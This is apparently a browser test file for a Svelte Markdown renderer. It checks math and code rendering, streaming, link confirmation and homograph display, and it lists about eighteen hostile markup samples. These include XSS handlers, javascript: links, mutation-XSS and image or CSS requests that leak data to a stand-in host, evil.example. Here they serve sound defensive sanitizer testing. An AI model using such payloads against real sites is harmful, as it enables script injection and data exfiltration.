import { expect, test, vi } from 'vitest';
import { render } from 'vitest-browser-svelte';
import Markdown from '../../../src/app/ui/Markdown.svelte';
import { eventually } from '../../fixtures/eventually.ts';

const ATTACKS = [
  '<img src=x onerror="window.attacked=1">',
  '<svg/onload=window.attacked=1>',
  '<script>window.attacked=1</script>',
  '[a](javascript:window.attacked=1)',
  '<a href="jav&#x09;ascript:window.attacked=1">x</a>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">',
  '$\\href{javascript:window.attacked=1}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '```python\n</code><img src=x onerror=window.attacked=1>\n```',
  '```"><img src=x onerror=window.attacked=1>\ncode\n```',
  '<style>@import "https://evil.example/x.css"</style>',
  '![x](https://evil.example/leak?d=secret)',
  '[![x](https://evil.example/leak)](https://evil.example)',
  '<form action=https://evil.example><button>go</button></form>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<https://evil.example/" onmouseover="window.attacked=1>',
  '[x](https://evil.example/"onclick="window.attacked=1)',
];

const markdownOf = (container: Element) => {
  const element = container.querySelector('.markdown');
  if (!element) throw new Error('nothing was rendered');
  return element;
};

test('renders text, mathematics and code', async () => {
  const text = '**537** works:\n\n$$7 \\times (50+25) = 525$$\n\n- one\n- two\n\n```python\nprint("x")  # why\n```\n';
  const { container } = await render(Markdown, { text });
  await eventually(() => expect(markdownOf(container).querySelector('math[display="block"]')).not.toBeNull());
  await eventually(() => expect(markdownOf(container).querySelector('pre i')?.textContent).toBe('# why'));
  expect(markdownOf(container).querySelector('strong')?.textContent).toBe('537');
  expect([...markdownOf(container).querySelectorAll('li')].map((item) => item.textContent)).toEqual(['one', 'two']);
});

test('does not highlight long code until the answer is complete', async () => {
  const text = `\`\`\`python\n${'x = 1  # why\n'.repeat(500)}\`\`\`\n`;
  const { container, rerender } = await render(Markdown, { text, streaming: true });
  await eventually(() => expect(markdownOf(container).querySelector('pre')).not.toBeNull());
  expect(markdownOf(container).querySelector('pre i')).toBeNull();
  await rerender({ text, streaming: false });
  await eventually(() => expect(markdownOf(container).querySelector('pre i')?.textContent).toBe('# why'));
});

test.each(ATTACKS)('hostile markup neither runs nor loads anything: %s', async (attack) => {
  const requests: string[] = [];
  const observer = new PerformanceObserver((list) => requests.push(...list.getEntries().map((entry) => entry.name)));
  observer.observe({ type: 'resource' });
  const { container } = await render(Markdown, { text: `before\n\n${attack}\n\n**after**` });
  await eventually(() => expect(markdownOf(container).querySelector('strong')?.textContent).toBe('after'));
  const allowed = 'p,strong,em,pre,code,div,span,a,b,i,br,math,math *,ul,ol,li,table,tr,td,blockquote';
  const strange = [...markdownOf(container).querySelectorAll(`*:not(${allowed})`)].map((element) => element.outerHTML);
  expect(strange).toEqual([]);
  for (const element of markdownOf(container).querySelectorAll('*')) {
    const names = element.getAttributeNames().filter((name) => /^on|^href|^src|^style|action|xlink/i.test(name));
    expect(names, element.outerHTML).toEqual([]);
  }
  expect('attacked' in window).toBe(false);
  expect(requests.filter((name) => name.includes('evil.example'))).toEqual([]);
  observer.disconnect();
});

test('opens a link only after confirmation', async () => {
  const open = vi.spyOn(window, 'open').mockReturnValue(null);
  const screen = await render(Markdown, { text: 'See [the paper](https://example.com/paper).' });
  await screen.getByRole('link', { name: 'the paper' }).click();
  await expect.element(screen.getByRole('dialog')).toHaveTextContent('https://example.com/paper');
  expect(open).not.toHaveBeenCalled();
  await screen.getByRole('button', { name: 'Stay here' }).click();
  expect(open).not.toHaveBeenCalled();
  await screen.getByRole('link', { name: 'the paper' }).click();
  await screen.getByRole('button', { name: 'Open' }).click();
  expect(open).toHaveBeenCalledWith('https://example.com/paper', '_blank', 'noopener,noreferrer');
  open.mockRestore();
});

test('shows a link’s address as the browser parses it, and makes no link if the address has a user name', async () => {
  const text = '[one](https://\u0430\u0440\u0440\u04cf\u0435.example/) [two](https://bank.example@evil.example/)';
  const screen = await render(Markdown, { text });
  await screen.getByRole('link').click();
  await expect.element(screen.getByRole('dialog')).toHaveTextContent('https://xn--80ak6aa92e.example/');
  expect(screen.container.querySelectorAll('[data-address]')).toHaveLength(1);
});

test.each(['>', '- '])('shows the text of markup that is nested too deeply: %s', async (sign) => {
  const text = `${sign.repeat(3_000)}deep`;
  const screen = await render(Markdown, { text, streaming: true });
  await eventually(() => expect(markdownOf(screen.container).textContent).toContain('deep'));
  await screen.rerender({ text: `${text}\n\nand on`, streaming: false });
  await eventually(() => expect(markdownOf(screen.container).textContent).toContain('and on'));
});

test('streaming a text gives the same final elements as rendering the whole text at once', async () => {
  const text = '# Title\n\nFirst paragraph with `code`.\n\n1. one\n2. two\n\n```js\nlet a = 1;\n```\n\nLast *words*.';
  const screen = await render(Markdown, { text: text.slice(0, 30), streaming: true });
  await eventually(() => expect(screen.container.querySelector('.block')).not.toBeNull());
  const first = screen.container.querySelector('.block');
  for (let length = 31; length <= text.length; length += 7)
    await screen.rerender({ text: text.slice(0, length), streaming: true });
  await screen.rerender({ text, streaming: false });
  const whole = await render(Markdown, { text });
  await eventually(() => expect(whole.container.querySelector('pre b')).not.toBeNull());
  await eventually(() => expect(flat(screen.container)).toBe(flat(whole.container)));
  expect(first?.textContent).toBe('Title');
});

/** The HTML of the rendered elements, without the block elements around them. */
function flat(container: Element): string {
  return [...container.querySelectorAll('.markdown > div')]
    .map((block) => block.innerHTML.replaceAll('>\n', '>'))
    .join('');
}
